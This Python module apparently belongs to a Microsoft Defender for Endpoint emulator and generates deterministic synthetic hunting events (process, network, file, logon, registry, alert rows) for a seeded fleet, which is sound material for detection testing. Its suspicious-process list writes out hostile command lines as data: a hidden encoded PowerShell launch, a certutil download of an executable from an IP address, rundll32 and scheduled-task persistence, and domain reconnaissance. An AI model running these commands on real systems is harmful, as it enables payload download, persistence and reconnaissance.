"""Deterministic hunting events consistent with a tenant's machines and alerts.

Machines and alerts come from the Defender store (``iter_machines``/``iter_alerts``) when the
tenant has any; otherwise a small fleet is made from the seed with the same conventions (40-hex
``DeviceId``, ``computerDnsName``). The same tenant, seed and anchor hour give the same rows.
"""

from __future__ import annotations

import hashlib
import json
import random
from collections.abc import Iterator
from typing import Any

from mdekit.emulator.clock import parse_time

__all__ = ["fleet_from_seed", "generate"]

_HOUR_US = 3_600_000_000
_DAY_US = 24 * _HOUR_US
_BENIGN = [
    ("svchost.exe", "svchost.exe -k netsvcs -p", "services.exe"),
    ("explorer.exe", "C:\\Windows\\explorer.exe", "userinit.exe"),
    ("msedge.exe", '"msedge.exe" --type=renderer', "explorer.exe"),
    ("OUTLOOK.EXE", '"OUTLOOK.EXE" /recycle', "explorer.exe"),
    ("notepad.exe", "notepad.exe C:\\notes.txt", "explorer.exe"),
    ("taskhostw.exe", "taskhostw.exe", "svchost.exe"),
    ("conhost.exe", "conhost.exe 0xffffffff -ForceV1", "cmd.exe"),
]
_SUSPICIOUS = [
    (
        "powershell.exe",
        "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBi",
        "winword.exe",
    ),
    ("certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.23/p.exe p.exe", "cmd.exe"),
    ("whoami.exe", "whoami /all", "cmd.exe"),
    ("net.exe", "net user /domain", "cmd.exe"),
    ("rundll32.exe", "rundll32.exe C:\\Users\\Public\\x.dll,Start", "explorer.exe"),
    ("schtasks.exe", "schtasks /create /tn Updater /tr C:\\Temp\\u.exe /sc daily", "cmd.exe"),
]
_URLS = [
    "www.microsoft.com",
    "login.microsoftonline.com",
    "github.com",
    "update.example.org",
    "cdn.example.net",
]


def _sha(rng: random.Random, n: int = 64) -> str:
    return f"{rng.getrandbits(n * 4):0{n}x}"


def fleet_from_seed(tenant: str, count: int = 6) -> list[dict[str, Any]]:
    """Machines in the API's shape, made from *tenant* alone (when the Defender store has none)."""
    rng = random.Random(f"hunting-fleet:{tenant}")
    out: list[dict[str, Any]] = []
    kinds = ["ws", "ws", "ws", "srv", "lap", "ws"]
    users = ["alice", "bob", "carol", "dan", "erin"]
    for i in range(count):
        name = f"{kinds[i % 6]}-{rng.choice(users)}{i}"
        out.append(
            {
                "id": _sha(rng, 40),
                "computerDnsName": f"{name}.contoso.local",
                "osPlatform": "WindowsServer2022" if name.startswith("srv") else "Windows11",
                "lastIpAddress": f"10.1.0.{10 + i}",
                "lastExternalIpAddress": f"20.51.0.{10 + i}",
                "aadDeviceId": None,
                "exposureLevel": rng.choice(["Low", "Medium", "High"]),
                "rbacGroupName": "Servers" if name.startswith("srv") else "Workstations",
                "osBuild": 22631,
                "version": "23H2",
                "healthStatus": "Active",
                "onboardingStatus": "Onboarded",
                "machineTags": [],
                "deviceValue": "Normal",
                "agentVersion": "10.8760.22621.1000",
            }
        )
    return out


def _us(text: str | None, default: int) -> int:
    if not text:
        return default
    try:
        dt = parse_time(text)
    except ValueError:
        return default
    return int(dt.timestamp()) * 1_000_000 + dt.microsecond


class _Events:
    """Builds every table's rows for one tenant."""

    def __init__(self, tenant: str, anchor_us: int) -> None:
        self.rng = random.Random(hashlib.sha256(f"hunting:{tenant}:{anchor_us}".encode()).hexdigest())
        self.anchor = anchor_us
        self.report = 1000

    def when(self, max_days: float = 30) -> int:
        return self.anchor - int(self.rng.random() * max_days * _DAY_US)

    def ip(self) -> str:
        r = self.rng
        return f"{r.choice([13, 20, 40, 52])}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"

    def base(self, m: dict[str, Any], ts: int, action: str) -> dict[str, Any]:
        self.report += 1
        return {
            "Timestamp": ts,
            "DeviceId": m["id"],
            "DeviceName": m["computerDnsName"],
            "ActionType": action,
            "ReportId": self.report,
        }

    def device_info(self, m: dict[str, Any]) -> Iterator[dict[str, Any]]:
        for day in range(30):
            row = self.base(m, self.anchor - day * _DAY_US - self.rng.randrange(_HOUR_US), "")
            row.pop("ActionType")
            row.update(
                OSPlatform=m.get("osPlatform") or "",
                OSBuild=str(m.get("osBuild") or ""),
                OSVersion=m.get("version") or "",
                PublicIP=m.get("lastExternalIpAddress") or "",
                IsAzureADJoined=bool(m.get("aadDeviceId")),
                AadDeviceId=m.get("aadDeviceId") or "",
                MachineGroup=m.get("rbacGroupName") or "",
                ExposureLevel=m.get("exposureLevel") or "",
                OnboardingStatus=m.get("onboardingStatus") or "Onboarded",
                ClientVersion=m.get("agentVersion") or "",
                DeviceType="Server" if "Server" in str(m.get("osPlatform")) else "Workstation",
                SensorHealthState=m.get("healthStatus") or "",
                DeviceManualTags=json.dumps(m.get("machineTags") or []),
                LoggedOnUsers=json.dumps(
                    [
                        {
                            "UserName": m["computerDnsName"]
                            .split("-")[-1]
                            .split(".")[0]
                            .rstrip("0123456789"),
                            "DomainName": "CONTOSO",
                        }
                    ]
                ),
            )
            yield row

    def process(self, m: dict[str, Any], n: int) -> Iterator[dict[str, Any]]:
        for i in range(n):
            name, cmd, parent = self.rng.choice(_SUSPICIOUS if i % 9 == 0 else _BENIGN)
            row = self.base(m, self.when(), "ProcessCreated")
            row.update(
                FileName=name,
                FolderPath=f"C:\\Windows\\System32\\{name}",
                ProcessCommandLine=cmd,
                InitiatingProcessFileName=parent,
                ProcessId=self.rng.randrange(1000, 60000),
                SHA1=_sha(self.rng, 40),
                SHA256=_sha(self.rng),
                MD5=_sha(self.rng, 32),
                FileSize=self.rng.randrange(50_000, 2_000_000),
                AccountDomain="contoso",
                AccountName=self.rng.choice(["system", "alice", "bob", "svc_backup"]),
                ProcessIntegrityLevel=self.rng.choice(["Medium", "High", "System"]),
                AdditionalFields=json.dumps({"ProcessStartKey": self.rng.getrandbits(40)}),
            )
            yield row

    def network(self, m: dict[str, Any], n: int) -> Iterator[dict[str, Any]]:
        for _ in range(n):
            url = self.rng.choice(_URLS)
            row = self.base(m, self.when(), self.rng.choice(["ConnectionSuccess"] * 4 + ["ConnectionFailed"]))
            row.update(
                RemoteIP=self.ip(),
                RemotePort=self.rng.choice([443, 443, 80, 53, 445]),
                RemoteUrl=url,
                LocalIP=m.get("lastIpAddress") or "",
                LocalPort=self.rng.randrange(49152, 65535),
                Protocol="Tcp",
                RemoteIPType="Public",
                LocalIPType="Private",
                InitiatingProcessFileName=self.rng.choice(["msedge.exe", "svchost.exe", "OUTLOOK.EXE"]),
            )
            yield row

    def files(self, m: dict[str, Any], n: int) -> Iterator[dict[str, Any]]:
        for _ in range(n):
            name = self.rng.choice(["report.docx", "invoice.pdf", "setup.exe", "notes.txt", "data.xlsx"])
            row = self.base(m, self.when(), self.rng.choice(["FileCreated", "FileModified", "FileDeleted"]))
            row.update(
                FileName=name,
                FolderPath=f"C:\\Users\\Public\\{name}",
                SHA256=_sha(self.rng),
                SHA1=_sha(self.rng, 40),
                FileSize=self.rng.randrange(1000, 5_000_000),
                InitiatingProcessFileName=self.rng.choice(["explorer.exe", "msedge.exe", "OUTLOOK.EXE"]),
            )
            yield row

    def logons(self, m: dict[str, Any], n: int) -> Iterator[dict[str, Any]]:
        for _ in range(n):
            ok = self.rng.random() < 0.8
            row = self.base(m, self.when(), "LogonSuccess" if ok else "LogonFailed")
            row.update(
                LogonType=self.rng.choice(["Interactive", "Network", "RemoteInteractive", "Service"]),
                AccountDomain="contoso",
                AccountName=self.rng.choice(["alice", "bob", "admin", "svc_backup"]),
                Protocol=self.rng.choice(["Kerberos", "NTLM"]),
                FailureReason="" if ok else "WrongPassword",
                IsLocalAdmin=self.rng.random() < 0.2,
                RemoteIP=f"10.1.0.{self.rng.randrange(2, 60)}",
            )
            yield row

    def registry(self, m: dict[str, Any], n: int) -> Iterator[dict[str, Any]]:
        for _ in range(n):
            row = self.base(m, self.when(), "RegistryValueSet")
            row.update(
                RegistryKey="HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                RegistryValueName=self.rng.choice(["OneDrive", "Teams", "Updater"]),
                RegistryValueData="C:\\Program Files\\app.exe",
                RegistryValueType="String",
                InitiatingProcessFileName=self.rng.choice(["explorer.exe", "powershell.exe"]),
            )
            yield row

    def alert(
        self, a: dict[str, Any], machines: dict[str, dict[str, Any]]
    ) -> tuple[dict, list[dict], list[dict]]:
        ts = _us(a.get("alertCreationTime"), self.anchor)
        techniques = json.dumps(a.get("mitreTechniques") or [])
        info = {
            "Timestamp": ts,
            "AlertId": a.get("id", ""),
            "Title": a.get("title") or "",
            "Category": a.get("category") or "",
            "Severity": a.get("severity") or "",
            "ServiceSource": "Microsoft Defender for Endpoint",
            "DetectionSource": a.get("detectionSource") or "",
            "AttackTechniques": techniques,
        }
        common = {
            k: info[k]
            for k in (
                "Timestamp",
                "AlertId",
                "Title",
                "AttackTechniques",
                "ServiceSource",
                "DetectionSource",
                "Severity",
            )
        }
        m = machines.get(a.get("machineId") or "")
        evidence: list[dict[str, Any]] = []
        events: list[dict[str, Any]] = []
        if m:
            evidence.append(
                {
                    **common,
                    "EntityType": "Machine",
                    "EvidenceRole": "Impacted",
                    "DeviceId": m["id"],
                    "DeviceName": m["computerDnsName"],
                }
            )
        for ev in a.get("evidence") or []:
            evidence.append(
                {
                    **common,
                    "EntityType": ev.get("entityType") or "",
                    "EvidenceRole": "Related",
                    "FileName": ev.get("fileName") or "",
                    "SHA1": ev.get("sha1") or "",
                    "SHA256": ev.get("sha256") or "",
                    "ProcessCommandLine": ev.get("processCommandLine") or "",
                    "RemoteIP": ev.get("ipAddress") or "",
                    "RemoteUrl": ev.get("url") or "",
                    "AccountName": ev.get("accountName") or "",
                    "DeviceId": m["id"] if m else "",
                    "DeviceName": m["computerDnsName"] if m else "",
                }
            )
            if m and ev.get("fileName") and ev.get("entityType") in ("Process", "File"):
                row = self.base(m, ts - 60_000_000, "ProcessCreated")
                row.update(
                    FileName=ev["fileName"],
                    SHA1=ev.get("sha1") or "",
                    SHA256=ev.get("sha256") or "",
                    ProcessCommandLine=ev.get("processCommandLine") or ev["fileName"],
                    FolderPath=ev.get("filePath") or "",
                    AccountName=ev.get("accountName") or "",
                )
                events.append(row)
        return info, evidence, events


def generate(
    tenant: str,
    machines: list[dict[str, Any]],
    alerts: list[dict[str, Any]],
    anchor_us: int,
    per_machine: int = 40,
) -> dict[str, list[dict[str, Any]]]:
    """Every hunting table's rows for *tenant* (values already in storage form: microsecond times)."""
    ev = _Events(tenant, anchor_us)
    out: dict[str, list[dict[str, Any]]] = {
        t: []
        for t in (
            "DeviceInfo",
            "DeviceProcessEvents",
            "DeviceNetworkEvents",
            "DeviceFileEvents",
            "DeviceLogonEvents",
            "DeviceRegistryEvents",
            "AlertInfo",
            "AlertEvidence",
        )
    }
    for m in machines:
        out["DeviceInfo"] += ev.device_info(m)
        out["DeviceProcessEvents"] += ev.process(m, per_machine)
        out["DeviceNetworkEvents"] += ev.network(m, per_machine // 2)
        out["DeviceFileEvents"] += ev.files(m, per_machine // 3)
        out["DeviceLogonEvents"] += ev.logons(m, per_machine // 4)
        out["DeviceRegistryEvents"] += ev.registry(m, per_machine // 8)
    by_id = {m["id"]: m for m in machines}
    for a in alerts:
        info, evidence, events = ev.alert(a, by_id)
        out["AlertInfo"].append(info)
        out["AlertEvidence"] += evidence
        out["DeviceProcessEvents"] += events
    return out
